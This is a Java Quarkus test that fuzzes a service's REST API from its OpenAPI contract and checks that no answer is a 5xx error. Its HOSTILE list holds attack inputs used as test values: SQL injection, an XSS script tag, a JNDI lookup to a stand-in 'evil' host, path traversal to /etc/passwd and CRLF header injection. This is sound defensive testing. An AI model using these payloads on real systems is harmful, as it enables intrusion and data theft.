package io.fieldback.hardening;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.fieldback.security.Roles;
import io.fieldback.security.Scope;
import io.fieldback.support.TestData;
import io.fieldback.support.Tokens;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * Contract-driven fuzzing: for every operation of {@code openapi/openapi.json}, requests with valid
 * credentials of a role the operation allows (tenant-bound roles get the tenant of the seeded records),
 * whose path, query, headers and body are generated from the contract's schemas and examples and then
 * mutated (wrong types, boundaries, huge and hostile strings, missing required and unknown fields, bad
 * dates, non-objects, broken JSON). Ids from successful answers are fed back as path and body values, so
 * requests reach existing records too. Every answer must be below 500, and every 4xx a problem+json.
 *
 * Seeded and repeatable: {@code -Dfieldback.fuzz.requests=100000 -Dfieldback.fuzz.seed=7} for bigger runs.
 */
@QuarkusTest
class ContractFuzzTest {

    private static final int REQUESTS = Integer.getInteger("fieldback.fuzz.requests", 10_000);
    private static final long SEED = Long.getLong("fieldback.fuzz.seed", 20261127L);
    private static final int THREADS = Integer.getInteger("fieldback.fuzz.threads", 4);
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final Pattern FIELD_IDS = Pattern.compile("\"([a-zA-Z]+Id)\":\"([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\"");

    static final List<String> HOSTILE = List.of("'; DROP TABLE customers; --", "\" OR 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://evil/x}", "../../etc/passwd", "\u0000", "𠮷野家", "\uFEFF", "%s%s%n", "\\", "'", "\"",
            " ", "", "\u202Eevil", "NaN", "-1", "1e309", "null", "true", "😀".repeat(50), "a\r\nX-Injected: 1");

    @TestHTTPResource("/")
    URL base;

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    private final List<String> ids = new CopyOnWriteArrayList<>();
    private final Set<String> knownIds = ConcurrentHashMap.newKeySet();
    /** Ids by the collection path they came from ("/api/v1/customers") or by the field that held them ("customerId"). */
    private final Map<String, List<String>> idsByKind = new ConcurrentHashMap<>();
    private JsonNode schemas;
    private UUID dealerId;
    private UUID stationId;
    private UUID vendorId;
    private UUID technicianId;

    record Operation(String id, String method, String path, JsonNode spec, List<String> roles) {
    }

    @Test
    void tenThousandGeneratedRequestsAnswerNo5xxAndOnlyProblemsFor4xx() throws Exception {
        JsonNode contract = ContractOperations.contract();
        schemas = contract.path("components").path("schemas");
        Map<String, List<String>> roles = ContractOperations.rolesByOperationId();
        List<Operation> operations = new ArrayList<>();
        contract.get("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(op -> {
            if (ContractOperations.METHODS.contains(op.getKey())) {
                String id = op.getValue().path("operationId").asText();
                operations.add(new Operation(id, op.getKey().toUpperCase(), path.getKey(), op.getValue(),
                        roles.getOrDefault(id, List.of(Roles.ADMIN))));
            }
        }));
        seed();

        Map<Integer, AtomicInteger> byStatus = new TreeMap<>();
        Map<String, AtomicInteger> okByOperation = new ConcurrentHashMap<>();
        List<String> failures = new CopyOnWriteArrayList<>();
        AtomicInteger sent = new AtomicInteger();
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        List<Future<?>> workers = new ArrayList<>();
        for (int t = 0; t < THREADS; t++) {
            int thread = t;
            workers.add(pool.submit(() -> {
                Random random = new Random(SEED * 31 + thread);
                for (int i = thread; i < REQUESTS; i += THREADS) {
                    Operation operation = operations.get(i % operations.size());
                    String outcome = send(operation, random, byStatus, okByOperation);
                    sent.incrementAndGet();
                    if (outcome != null && failures.size() < 200) {
                        failures.add(outcome);
                    }
                }
                return null;
            }));
        }
        for (Future<?> worker : workers) {
            worker.get();
        }
        pool.shutdown();

        long fiveHundreds = byStatus.entrySet().stream().filter(e -> e.getKey() >= 500)
                .mapToLong(e -> e.getValue().get()).sum();
        System.out.printf("contract fuzz: %d requests over %d operations (seed %d): %d answers of 5xx; by status %s%n",
                sent.get(), operations.size(), SEED, fiveHundreds, byStatus);
        System.out.printf("contract fuzz: operations answered 2xx at least once: %d of %d%n", okByOperation.size(),
                operations.size());
        System.out.println("contract fuzz: never 2xx: " + operations.stream().map(Operation::id)
                .filter(id -> !okByOperation.containsKey(id)).sorted().toList());
        failures.stream().limit(40).forEach(f -> System.out.println("  FAIL " + f));
        assertThat(sent.get()).isGreaterThanOrEqualTo(REQUESTS);
        assertThat(failures).isEmpty();
    }

    // ---- requests ----

    private String send(Operation op, Random random, Map<Integer, AtomicInteger> byStatus,
            Map<String, AtomicInteger> okByOperation) {
        String role = op.roles().get(op.roles().contains(Roles.ADMIN) && random.nextInt(3) > 0
                ? op.roles().indexOf(Roles.ADMIN) : random.nextInt(op.roles().size()));
        StringBuilder url = new StringBuilder(base.toString().replaceAll("/$", ""));
        Matcher params = Pattern.compile("\\{([^}]+)}").matcher(op.path());
        int last = 0;
        while (params.find()) {
            String collection = op.path().substring(0, Math.max(0, params.start() - 1));
            url.append(op.path(), last, params.start())
                    .append(encodePath(pathValue(params.group(1), collection, random)));
            last = params.end();
        }
        url.append(op.path().substring(last));
        HttpRequest.Builder request = HttpRequest.newBuilder().timeout(Duration.ofSeconds(60))
                .header("Authorization", "Bearer " + token(role));
        List<String> query = new ArrayList<>();
        for (JsonNode parameter : op.spec().path("parameters")) {
            String name = parameter.path("name").asText();
            JsonNode schema = resolve(parameter.path("schema"));
            boolean required = parameter.path("required").asBoolean(false);
            switch (parameter.path("in").asText()) {
                case "query" -> {
                    if (required || random.nextInt(3) == 0) {
                        String value = random.nextInt(4) == 0 ? hostile(random) : scalar(schema, random).asText();
                        query.add(encode(name) + "=" + encode(value));
                    }
                }
                case "header" -> header(request, name, random);
                default -> {
                }
            }
        }
        if (!query.isEmpty()) {
            url.append('?').append(String.join("&", query));
        }
        byte[] body = null;
        JsonNode content = op.spec().path("requestBody").path("content");
        if (content.has("application/json")) {
            body = jsonBody(content.get("application/json"), random);
            request.header("Content-Type", random.nextInt(40) == 0 ? "text/plain" : "application/json");
        } else if (content.has("application/octet-stream")) {
            body = new byte[random.nextInt(2000)];
            random.nextBytes(body);
            if (random.nextBoolean() && body.length > 8) {
                System.arraycopy(new byte[] { (byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0 }, 0, body, 0, 4);
            }
            request.header("Content-Type", "application/octet-stream");
        }
        HttpRequest.BodyPublisher publisher = body == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(body);
        String target = url.toString();
        try {
            request.uri(URI.create(target)).method(op.method(), publisher);
        } catch (IllegalArgumentException e) {
            return null; // a URI the client itself refuses to send
        }
        HttpResponse<String> response;
        try {
            response = http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (Exception e) {
            byStatus.computeIfAbsent(599, k -> new AtomicInteger()).incrementAndGet();
            return op.id() + " " + op.method() + " " + target + ": no answer (" + e + ")";
        }
        int status = response.statusCode();
        synchronized (byStatus) {
            byStatus.computeIfAbsent(status, k -> new AtomicInteger()).incrementAndGet();
        }
        String answer = response.body();
        if (status < 300) {
            okByOperation.computeIfAbsent(op.id(), k -> new AtomicInteger()).incrementAndGet();
            harvest(op.path(), answer);
            return null;
        }
        String requestText = body == null ? "" : " body " + abbreviate(new String(body, StandardCharsets.UTF_8));
        if (status >= 500) {
            return op.id() + " as " + role + " " + op.method() + " " + abbreviate(target) + requestText + " -> " + status
                    + " " + abbreviate(answer);
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (status >= 400 && !type.startsWith("application/problem+json")) {
            return op.id() + " " + op.method() + " " + abbreviate(target) + " -> " + status + " with Content-Type '"
                    + type + "'" + requestText;
        }
        return null;
    }

    private void header(HttpRequest.Builder request, String name, Random random) {
        switch (name) {
            case "If-Match" -> {
                int pick = random.nextInt(6);
                if (pick < 3) {
                    request.header("If-Match", "\"" + random.nextInt(3) + "\"");
                } else if (pick == 3) {
                    request.header("If-Match", random.nextBoolean() ? "W/\"0\"" : "*");
                } else if (pick == 4) {
                    request.header("If-Match", random.nextBoolean() ? "garbage" : "\"99999999999999999999\"");
                }
            }
            case "Idempotency-Key" -> {
                int pick = random.nextInt(6);
                if (pick < 3) {
                    request.header("Idempotency-Key", UUID.randomUUID().toString());
                } else if (pick == 3) {
                    request.header("Idempotency-Key", "k".repeat(101 + random.nextInt(200)));
                } else if (pick == 4) {
                    request.header("Idempotency-Key", "fixed-" + random.nextInt(5));
                }
            }
            default -> {
            }
        }
    }

    private String token(String role) {
        return switch (role) {
            case Roles.DEALER -> Tokens.token(role, Scope.DEALER, dealerId);
            case Roles.STATION_MANAGER -> Tokens.token(role, Scope.STATION, stationId);
            case Roles.TECHNICIAN -> io.smallrye.jwt.build.Jwt.issuer("https://fieldback.dev")
                    .subject("fuzz-technician-" + technicianId).groups(role).claim(Scope.STATION, stationId.toString())
                    .claim(Scope.TECHNICIAN, technicianId.toString()).expiresIn(Duration.ofHours(1)).sign();
            case Roles.VENDOR -> Tokens.token(role, Scope.VENDOR, vendorId);
            default -> Tokens.token(role, null, null);
        };
    }

    // ---- values ----

    private String pathValue(String name, String collection, Random random) {
        if (name.equals("date")) {
            return random.nextInt(4) == 0 ? hostile(random) : date(random);
        }
        int pick = random.nextInt(10);
        List<String> ofKind = idsByKind.get(name.equals("id") ? collection : name);
        if (pick < 6 && ofKind != null && !ofKind.isEmpty()) {
            return ofKind.get(random.nextInt(ofKind.size()));
        }
        if (pick < 7 && !ids.isEmpty()) {
            return ids.get(random.nextInt(ids.size()));
        }
        if (pick < 8) {
            return UUID.randomUUID().toString();
        }
        return random.nextBoolean() ? hostile(random)
                : List.of("abc", "0", "-1", "00000000-0000-0000-0000-000000000000", "x".repeat(1000),
                        "01936f6e-5b7a-7c3e-8f00", "%", "..").get(random.nextInt(8));
    }

    private byte[] jsonBody(JsonNode media, Random random) {
        int pick = random.nextInt(100);
        if (pick < 3) {
            return List.of("", "{", "[", "{\"a\":}", "nul", "{\"a\" 1}").get(random.nextInt(6)).getBytes(StandardCharsets.UTF_8);
        }
        if (pick < 5) {
            return List.of("[]", "\"text\"", "42", "null", "true", "[{}]").get(random.nextInt(6)).getBytes(StandardCharsets.UTF_8);
        }
        if (pick < 6) {
            return ("{\"a\":".repeat(3000) + "1" + "}".repeat(3000)).getBytes(StandardCharsets.UTF_8);
        }
        if (pick < 7) {
            byte[] bad = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
            return bad;
        }
        JsonNode schema = resolve(media.path("schema"));
        JsonNode value;
        if (pick < 45 && schema.has("examples") && schema.get("examples").size() > 0) {
            value = withKnownIds(schema.get("examples").get(0).deepCopy(), random);
        } else {
            value = generate(schema, random, 0);
        }
        int mutations = pick < 60 ? 0 : 1 + random.nextInt(2);
        for (int m = 0; m < mutations; m++) {
            value = mutate(value, schema, random);
        }
        String text = value.toString();
        if (random.nextInt(60) == 0 && value.isObject() && value.size() > 0) {
            // the same key twice
            String first = value.fieldNames().next();
            text = "{\"" + first + "\":" + value.get(first) + "," + text.substring(1);
        }
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private JsonNode withKnownIds(JsonNode node, Random random) {
        if (node.isObject()) {
            ObjectNode object = (ObjectNode) node;
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                JsonNode child = object.get(name);
                List<String> ofKind = idsByKind.get(name);
                if (child.isTextual() && child.asText().matches("[0-9a-f]{8}-.*") && ofKind != null && !ofKind.isEmpty()) {
                    object.put(name, ofKind.get(random.nextInt(ofKind.size())));
                } else if (child.isTextual() && child.asText().matches("[0-9a-f]{8}-.*") && !ids.isEmpty()) {
                    object.put(name, ids.get(random.nextInt(ids.size())));
                } else if (child.isTextual() && name.toLowerCase().contains("code")) {
                    object.put(name, TestData.unique("FZ"));
                } else {
                    withKnownIds(child, random);
                }
            }
        } else if (node.isArray()) {
            node.forEach(child -> withKnownIds(child, random));
        }
        return node;
    }

    private JsonNode generate(JsonNode schema, Random random, int depth) {
        schema = resolve(schema);
        if (schema.has("x-json-types") || schema.has("oneOf") || schema.has("anyOf")) {
            return switch (random.nextInt(3)) {
                case 0 -> JSON.booleanNode(random.nextBoolean());
                case 1 -> JSON.numberNode(random.nextInt(12) - 1);
                default -> JSON.textNode(random.nextBoolean() ? "A" : hostile(random));
            };
        }
        String type = schema.path("type").isArray() ? schema.path("type").path(0).asText() : schema.path("type").asText();
        if (type.equals("object") || schema.has("properties")) {
            ObjectNode object = JSON.objectNode();
            if (depth > 4) {
                return object;
            }
            Set<String> required = new java.util.HashSet<>();
            schema.path("required").forEach(r -> required.add(r.asText()));
            schema.path("properties").fields().forEachRemaining(p -> {
                if (required.contains(p.getKey()) || random.nextInt(10) < 6) {
                    List<String> ofKind = idsByKind.get(p.getKey());
                    object.set(p.getKey(), ofKind != null && !ofKind.isEmpty() && random.nextInt(10) < 7
                            ? JSON.textNode(ofKind.get(random.nextInt(ofKind.size())))
                            : generate(p.getValue(), random, depth + 1));
                }
            });
            return object;
        }
        if (type.equals("array")) {
            ArrayNode array = JSON.arrayNode();
            int size = random.nextInt(10) == 0 ? 0 : 1 + random.nextInt(3);
            for (int i = 0; i < size && depth <= 4; i++) {
                array.add(generate(schema.path("items"), random, depth + 1));
            }
            return array;
        }
        return scalar(schema, random);
    }

    private JsonNode scalar(JsonNode schema, Random random) {
        schema = resolve(schema);
        if (schema.has("enum")) {
            JsonNode values = schema.get("enum");
            return random.nextInt(8) == 0 ? JSON.textNode("NOT_A_VALUE") : values.get(random.nextInt(values.size()));
        }
        String type = schema.path("type").isArray() ? schema.path("type").path(0).asText() : schema.path("type").asText();
        String format = schema.path("format").asText();
        switch (type) {
            case "integer" -> {
                long min = schema.path("minimum").asLong(-5);
                long max = schema.path("maximum").asLong(min + 1000);
                return switch (random.nextInt(6)) {
                    case 0 -> JSON.numberNode(min);
                    case 1 -> JSON.numberNode(max);
                    case 2 -> JSON.numberNode(min - 1);
                    case 3 -> JSON.numberNode(max + 1);
                    case 4 -> JSON.numberNode(random.nextBoolean() ? Long.MAX_VALUE : Integer.MIN_VALUE);
                    default -> JSON.numberNode(min + (long) (random.nextDouble() * Math.max(1, Math.min(max - min, 1000))));
                };
            }
            case "number" -> {
                return switch (random.nextInt(6)) {
                    case 0 -> JSON.numberNode(0.0);
                    case 1 -> JSON.numberNode(-1.5);
                    case 2 -> JSON.numberNode(1e308);
                    case 3 -> JSON.numberNode(new java.math.BigDecimal("123456789012345678901234567890.123456"));
                    case 4 -> JSON.numberNode(0.001);
                    default -> JSON.numberNode(Math.round(random.nextDouble() * 10000) / 100.0);
                };
            }
            case "boolean" -> {
                return JSON.booleanNode(random.nextBoolean());
            }
            default -> {
                if (format.equals("uuid") || schema.path("pattern").asText().startsWith("[a-fA-F0-9]{8}")) {
                    return JSON.textNode(!ids.isEmpty() && random.nextInt(4) > 0 ? ids.get(random.nextInt(ids.size()))
                            : UUID.randomUUID().toString());
                }
                if (format.equals("date")) {
                    return JSON.textNode(date(random));
                }
                if (format.equals("date-time")) {
                    return JSON.textNode(instant(random));
                }
                int max = schema.path("maxLength").asInt(60);
                return JSON.textNode(text(random, max));
            }
        }
    }

    private JsonNode mutate(JsonNode value, JsonNode schema, Random random) {
        if (!value.isObject()) {
            return value;
        }
        ObjectNode object = (ObjectNode) value;
        List<String> names = new ArrayList<>();
        object.fieldNames().forEachRemaining(names::add);
        schema.path("properties").fieldNames().forEachRemaining(n -> {
            if (!names.contains(n)) {
                names.add(n);
            }
        });
        if (names.isEmpty()) {
            object.put("unexpected", 1);
            return object;
        }
        String name = names.get(random.nextInt(names.size()));
        switch (random.nextInt(12)) {
            case 0 -> object.remove(name);
            case 1 -> object.putNull(name);
            case 2 -> object.put(name, "x".repeat(random.nextInt(5) == 0 ? 1_000_000 : 5_000));
            case 3 -> object.put(name, hostile(random));
            case 4 -> object.put(name, random.nextBoolean() ? 12345 : -1);
            case 5 -> object.put(name, random.nextBoolean());
            case 6 -> object.set(name, JSON.objectNode().put("nested", "x"));
            case 7 -> object.set(name, JSON.arrayNode().add(1).add("two"));
            case 8 -> object.put("unknown" + random.nextInt(3), "extra");
            case 9 -> object.put(name, random.nextBoolean() ? "2026-02-30" : List.of("0001-01-01", "1969-12-31T23:59:59Z",
                    "9999-12-31", "+10000-01-01T00:00:00Z", "-0001-01-01", "1900-01-01T00:00:00Z").get(random.nextInt(6)));
            case 10 -> object.put(name, random.nextBoolean() ? "12" : "1.5e3");
            default -> {
                JsonNode child = object.get(name);
                if (child != null && child.isArray()) {
                    ArrayNode many = JSON.arrayNode();
                    for (int i = 0; i < 600; i++) {
                        many.add(child.size() > 0 ? child.get(0) : JSON.objectNode());
                    }
                    object.set(name, many);
                } else if (child != null && child.isObject()) {
                    object.set(name, mutate(child, resolve(schema.path("properties").path(name)), random));
                } else {
                    object.put(name, Long.MAX_VALUE);
                }
            }
        }
        return object;
    }

    private static String hostile(Random random) {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private static String text(Random random, int max) {
        int pick = random.nextInt(8);
        if (pick == 0) {
            return "名".repeat(Math.max(1, max));
        }
        if (pick == 1) {
            return "x".repeat(max + 1);
        }
        if (pick == 2) {
            return hostile(random);
        }
        String base = "FZ-" + Long.toHexString(random.nextLong()) + "-上海";
        return base.length() > max ? base.substring(0, Math.max(1, max)) : base;
    }

    private static String date(Random random) {
        return List.of("2026-11-20", "2026-01-01", "1969-12-31", "0001-01-01", "9999-12-31", "2026-02-30", "2026-13-01",
                "20261120", "2026-11-20T00:00:00Z").get(random.nextInt(9));
    }

    private static String instant(Random random) {
        return List.of("2026-11-20T01:30:00Z", "2026-11-27T08:00:00Z", "1969-12-31T23:59:59Z", "1900-01-01T00:00:00Z",
                "9999-12-31T23:59:59Z", "+100000-01-01T00:00:00Z", "2026-11-20T01:30:00+08:00", "2026-11-20",
                "2099-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "-1000000000-01-01T00:00:00Z", "0999-12-31T23:59:59Z")
                .get(random.nextInt(12));
    }

    private JsonNode resolve(JsonNode schema) {
        for (int i = 0; i < 5 && schema.has("$ref"); i++) {
            String ref = schema.get("$ref").asText();
            schema = schemas.path(ref.substring(ref.lastIndexOf('/') + 1));
        }
        return schema;
    }

    // ---- ids ----

    /** Ids of the regions and provinces changeset 040 seeds. */
    private static final String SEEDED_REFERENCE_DATA = "0193a000-0000-7000-8000-00000000(01|02)[0-9a-f]{2}";

    private void seed() {
        dealerId = TestData.dealer();
        stationId = TestData.station(dealerId);
        UUID customer = TestData.customer(dealerId);
        vendorId = UUID.fromString(Tokens.admin().body(Map.of("code", TestData.unique("V"), "name", "调查公司"))
                .post("/api/v1/vendors").then().statusCode(201).extract().path("id"));
        technicianId = UUID.fromString(Tokens.admin().body(Map.of("stationId", stationId.toString(), "name", "李师傅",
                "phone", "+8613900001111")).post("/api/v1/technicians").then().statusCode(201).extract().path("id"));
        String equipment = Tokens.admin().body(Map.of("serialNumber", TestData.unique("SN"), "productSeries", "YC6K",
                "application", "TRUCK", "deliveryDate", "2025-01-01")).post("/api/v1/customers/" + customer + "/equipment")
                .then().statusCode(201).extract().path("id");
        remember("/api/v1/dealers", dealerId.toString());
        remember("/api/v1/stations", stationId.toString());
        remember("/api/v1/customers", customer.toString());
        remember("/api/v1/vendors", vendorId.toString());
        remember("/api/v1/technicians", technicianId.toString());
        remember("/api/v1/customers/{customerId}/equipment", equipment);
        for (String list : List.of("/api/v1/customers", "/api/v1/visits", "/api/v1/complaints", "/api/v1/followups",
                "/api/v1/technicians", "/api/v1/departments", "/api/v1/api-keys", "/api/v1/followups/questionnaires")) {
            harvest(list, Tokens.admin().get(list + "?limit=20").asString());
        }
    }

    private void harvest(String path, String answer) {
        if (answer == null || ids.size() > 5_000 || answer.isEmpty()) {
            return;
        }
        String collection = path.replaceAll("/\\{[^}]+}$", "");
        try {
            JsonNode json = MAPPER.readTree(answer);
            if (json.has("id")) {
                remember(collection, json.get("id").asText());
            }
            json.path("items").forEach(item -> {
                if (item.has("id")) {
                    remember(collection, item.get("id").asText());
                }
            });
        } catch (Exception notJson) {
            return;
        }
        Matcher m = FIELD_IDS.matcher(answer);
        while (m.find()) {
            remember(m.group(1), m.group(2));
        }
    }

    private void remember(String kind, String id) {
        if (!id.matches("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")) {
            return;
        }
        if (id.matches(SEEDED_REFERENCE_DATA)) {
            return; // the seeded regions and provinces are shared by every test: fuzz only those made here
        }
        List<String> ofKind = idsByKind.computeIfAbsent(kind, k -> new CopyOnWriteArrayList<>());
        if (ofKind.size() < 500 && !ofKind.contains(id)) {
            ofKind.add(id);
        }
        if (kind.startsWith("/")) {
            // "/api/v1/customers" -> also a "customerId", ".../equipment" -> "equipmentId"
            String last = kind.substring(kind.lastIndexOf('/') + 1);
            String field = (last.endsWith("s") ? last.substring(0, last.length() - 1) : last) + "Id";
            if (!field.startsWith("{")) {
                remember(field, id);
            }
        }
        if (knownIds.add(id)) {
            ids.add(id);
        }
    }

    private static String encode(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String encodePath(String value) {
        return encode(value).replace("+", "%20");
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "..." : text;
    }
}
